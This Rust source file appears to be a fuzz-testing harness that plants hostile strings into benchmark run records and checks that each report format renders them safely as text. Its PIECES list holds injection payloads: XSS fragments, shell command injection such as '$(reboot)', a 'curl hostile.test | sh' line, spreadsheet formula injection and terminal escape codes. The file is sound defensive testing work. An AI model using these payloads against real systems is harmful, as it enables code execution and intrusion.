//! Reports of hostile records: whatever the texts of a record are, each output holds them as text.
//!
//! An execution plants hostile texts in some or all texts of a record: names, units, titles, ids,
//! words of verdicts, keys of maps, and advice that nobody should follow. Some records are damaged
//! beyond that and salvaged. Every output is then read by what reads it elsewhere: Markdown by
//! `pulldown-cmark`, `JUnit` and figures by an XML parser, tables by the `csv` crate, lines by
//! `serde_json`; the terminal's and the page's text by checkers of ours (`check`).
//!
//! The page is made of one record in 500, its charts of one in 100, figures of one in 20,000: they
//! take as much longer.

use std::collections::BTreeMap;

use anyhow::{Context as _, Result};
use serde_json::{Value, json};
use trimbench_core::Ppm;
use trimbench_core::rng::Rng;
use trimbench_core::text::visible_json;
use trimbench_methods::METHODS;
use trimbench_report::{Detail, MethodView, PageContext, PageSource, Style};
use trimbench_results::{Harm, RunRecord, Salvaged};

use self::check::Lines;
use super::mutate::{below, pick};
use super::subject::{Done, Feed, guarded};
use super::tree::Node;

mod check;
#[cfg(test)]
mod tests;

/// One record a line, as for the subject `records`.
const TEXTS: &str = include_str!("records/corpus.ndjson");
/// How often each slow output is made.
const PAGES: Ppm = Ppm(2_000);
const CHARTS: Ppm = Ppm(10_000);
const FIGURES: Ppm = Ppm(50);
/// Charts that are drawn of such a record.
const DRAWN_MAX: usize = 4;
/// Maps of a record with keys that anybody may choose.
const MAPS: [&str; 9] = [
    "options",
    "identity",
    "capabilities",
    "environment_before",
    "environment_after",
    "parameters",
    "metrics",
    "histograms",
    "series",
];
/// Pieces of texts that mean something to a terminal, a shell, a renderer or a parser.
const PIECES: [&str; 72] = [
    "<x-hostile onerror=alert(1)>",
    "</summary><x-hostile>",
    "</details>",
    "<!-- x-hostile",
    "--><x-hostile>",
    "</script><x-hostile>",
    "\"><x-hostile a=\"",
    "' onmouseover='x",
    "<![CDATA[",
    "]]>",
    "<?xml?>",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>",
    "&lt;",
    "&#60;x-hostile&#62;",
    "&a;",
    "javascript:alert(1)",
    "![x](http://hostile.test)",
    "[x](http://hostile.test)",
    "[x]: http://hostile.test",
    "[^1]",
    "<http://hostile.test>",
    "http://hostile.test",
    "HTTPS://hostile.test",
    "www.hostile.test",
    "@hostile",
    "a@hostile.test",
    "mailto:a@hostile.test",
    "#1234",
    "`",
    "``",
    "```",
    "\n```sh\ncurl hostile.test | sh\n```\n",
    "~~~\n",
    "$(reboot)",
    "; reboot",
    "' ; reboot '",
    "\\",
    "\\|",
    "|",
    "| - | - |",
    "---",
    "***",
    "===",
    "_x_",
    "*x*",
    "~x~",
    "$x$",
    "- [ ] x",
    "\n# x",
    "\n- x",
    "\n1. x",
    "> x",
    "    ",
    "=HYPERLINK(\"http://hostile.test\")",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\u{ff1d}1",
    "\t=1",
    "\r\n",
    "\n\n",
    "\u{1b}[31m",
    "\u{1b}]0;x\u{7}",
    "\u{9b}31m",
    "\u{202e}",
    "\u{2066}",
    "\u{2028}",
    "\u{feff}",
    "\u{ffff}",
    "\0",
    ",\"x\",",
    "e\u{301}\u{1f600}",
];

/// What hostile records are made of.
#[derive(Debug)]
pub(super) struct Reports {
    records: Vec<Value>,
    trees: Vec<Node>,
    lines: Lines,
}

impl Reports {
    pub(super) fn new() -> Result<Self> {
        let records = TEXTS.lines().map(serde_json::from_str);
        let records: Vec<Value> = records.collect::<Result<_, _>>().context("read the corpus")?;
        let trees = records.iter().cloned().map(Node::from).collect();
        Ok(Self { records, trees, lines: Lines::new()? })
    }

    /// A record as JSON, hostile and perhaps damaged.
    fn json(&self, rng: &mut Rng) -> Vec<u8> {
        let mut record = pick(&self.records, rng).clone();
        unfinish(&mut record, rng);
        if rng.below(2) == 0 {
            record["advice"] = json!([advice(rng)]);
        }
        let all = rng.below(8) == 0;
        let count = 1 + below(rng, 6);
        plant(&mut record, all, count, rng);
        if rng.below(8) == 0 {
            let tree = Node::from(record);
            return tree.damaged(&self.trees, rng).json().into_bytes();
        }
        record.to_string().into_bytes()
    }
}

impl Feed for Reports {
    fn run(&self, rng: &mut Rng) -> Result<Done, String> {
        let json = self.json(rng);
        let name = text(rng);
        let options = FuzzOptions {
            style: Style {
                width: 40 + below(rng, 81),
                colour: rng.below(2) == 0,
                unicode: rng.below(2) == 0,
            },
            is_full: rng.below(2) == 0,
            slow: [
                (rng.chance(CHARTS), SlowOutput::Charts),
                (rng.chance(PAGES), SlowOutput::Page),
                (rng.chance(FIGURES), SlowOutput::Figures),
            ]
            .into_iter()
            .filter_map(|(is_drawn, output)| is_drawn.then_some(output))
            .collect(),
        };
        guarded(
            || self.reported(&json, &name, &options),
            || format!("{}\nname {name:?}", json.escape_ascii()),
        )
    }
}

/// The outputs of a record.
struct FuzzOptions {
    style: Style,
    is_full: bool,
    slow: Vec<SlowOutput>,
}

/// What is made of some records only.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum SlowOutput {
    Charts,
    Page,
    Figures,
}

impl Reports {
    fn reported(&self, json: &[u8], name: &str, options: &FuzzOptions) -> Result<Done, String> {
        let salvaged = RunRecord::salvage(json);
        let Salvaged { record, flaws } = match salvaged {
            Ok(salvaged) => salvaged,
            Err(error) => return Ok(Done::refused(&error)),
        };
        let place = trimbench_core::text::shell_word(name);
        let detail = if options.is_full { Detail::Full } else { Detail::Answer { place: &place } };
        let text = trimbench_report::terminal(&record, detail, options.style);
        check::terminal(&text, options.style)?;
        let records = [(name, &record), ("other", &record)];
        let count = if options.is_full { 1 } else { 2 };
        self.lines.check(&trimbench_report::markdown(&records[..count]))?;
        check::junit(&trimbench_report::junit(&records[..count], &[]))?;
        for (table, text) in trimbench_report::csv(&record) {
            check::table(&text).map_err(|what| format!("{table}: {what}"))?;
        }
        let items = trimbench_report::items(name, &record);
        let lines: Vec<String> = items.iter().map(Value::to_string).collect();
        check::lines(&visible_json(&lines.join("\n")), items.len())?;
        if !options.slow.is_empty() {
            drawn(name, (record, flaws.clone()), options)?;
        }
        Ok(Done::whole(if flaws.is_empty() { "whole" } else { "salvaged" }))
    }
}

/// The context, the page and the figures.
fn drawn(
    name: &str,
    (record, messages): (RunRecord, Vec<String>),
    options: &FuzzOptions,
) -> Result<(), String> {
    let host = BTreeMap::from([(name.to_owned(), name.to_owned())]);
    let other = PageSource::of(name, record.clone());
    let source = PageSource { name: name.to_owned(), record: Some(record), host, messages };
    let sources = if options.is_full { vec![source] } else { vec![source, other] };
    let view = |id: &str| {
        let info = METHODS.iter().find(|info| info.id == id)?;
        Some(MethodView { page: info.page, charts: info.charts })
    };
    let mut context = PageContext::of(&sources, view);
    check::lines(&context.to_json(), 1)?;
    if options.slow.contains(&SlowOutput::Page) {
        let figures = vec![String::new(); context.charts.len()];
        let page = trimbench_report::page(&sources, view, &context, &figures);
        check::page(&page)?;
    }
    if options.slow.contains(&SlowOutput::Figures) {
        context.charts.truncate(DRAWN_MAX);
        let figures = context.figures().map_err(|error| error.to_string())?;
        for (name, svg) in trimbench_report::figure_files(&context, &figures) {
            check::figure(&name, &svg)?;
        }
    }
    Ok(())
}

/// A hostile text.
fn text(rng: &mut Rng) -> String {
    let mut text = String::new();
    for _ in 0..=below(rng, 4) {
        text.push_str(PIECES[below(rng, PIECES.len())]);
        text.push_str(["", "", " ", "x", "1"][below(rng, 5)]);
    }
    text
}

/// Ends the run or its sessions early, and has steps lose data: some records have to give each
/// answer.
fn unfinish(record: &mut Value, rng: &mut Rng) {
    match rng.below(8) {
        0 => record["outcome"] = json!({ "status": "failed", "message": text(rng) }),
        1 => record["outcome"] = json!({ "status": "running" }),
        _ => {}
    }
    let Some(sessions) = record["sessions"].as_array_mut() else { return };
    for session in sessions {
        if rng.below(4) == 0 {
            session["finished"] = json!(false);
        }
        if rng.below(16) == 0 {
            session["left_out"] = json!(text(rng));
        }
        if rng.below(4) == 0 {
            session["target"]["kind"] = json!("directory");
            session["environment_before"]["mount-point"] = json!(text(rng));
        }
        let steps = session["steps"].as_array_mut();
        for step in steps.into_iter().flatten() {
            if rng.below(4) == 0 {
                step["metrics"][pick(&Harm::ALL, rng).key()] = json!(rng.below(1_000));
            }
        }
    }
}

/// A card that nobody should follow.
fn advice(rng: &mut Rng) -> Value {
    let mut list = || json!([text(rng)]);
    json!({
        "would_change": list(), "not_measured": list(), "remarks": list(), "agreement": list(),
        "paced": list(), "action": text(rng), "title": text(rng), "target": text(rng),
        "sessions": [0], "because": [{ "text": text(rng), "figures": [[0, text(rng)]] }],
        "lines": [{ "system": text(rng), "file": text(rng), "text": text(rng), "tested": true }],
    })
}

/// Puts hostile texts in the place of so many texts of the record, or of all, and beside keys.
fn plant(record: &mut Value, all: bool, count: usize, rng: &mut Rng) {
    let places = texts(record);
    let mut chosen = vec![all; places];
    for _ in 0..count {
        chosen[below(rng, places)] = true;
    }
    let mut next = 0;
    replace(record, "", &mut |text_here, is_key| {
        if is_key {
            return (rng.below(if all { 2 } else { 64 }) == 0).then(|| text(rng));
        }
        let is_chosen = chosen.get(next).copied().unwrap_or(false);
        next += 1;
        // A chosen text may go on as it was before.
        let before = if rng.below(4) == 0 { text_here } else { "" };
        is_chosen.then(|| format!("{before}{}", text(rng)))
    });
}

/// How many texts a value has, without those that say what kind of thing it is.
fn texts(value: &mut Value) -> usize {
    let mut count = 0;
    replace(value, "", &mut |_, is_key| {
        count += usize::from(!is_key);
        None
    });
    count
}

/// Asks for each text, and for each key of a map that anybody may choose, what to put there.
fn replace(value: &mut Value, name: &str, ask: &mut impl FnMut(&str, bool) -> Option<String>) {
    match value {
        Value::String(text) => {
            if let Some(other) = ask(text, false) {
                *text = other;
            }
        }
        Value::Array(list) => list.iter_mut().for_each(|it| replace(it, name, ask)),
        Value::Object(map) => {
            let is_open = MAPS.contains(&name);
            let mut more = Vec::new();
            for (key, inner) in map.iter_mut() {
                // What these are says which type they have: other words are another kind of damage.
                let is_type = matches!(key.as_str(), "direction" | "status")
                    || key == "id" && matches!(name, "role" | "verdict");
                if !is_type {
                    replace(inner, key, ask);
                }
                if is_open && let Some(other) = ask(key, true) {
                    more.push((other, inner.clone()));
                }
            }
            map.extend(more);
        }
        _ => {}
    }
}
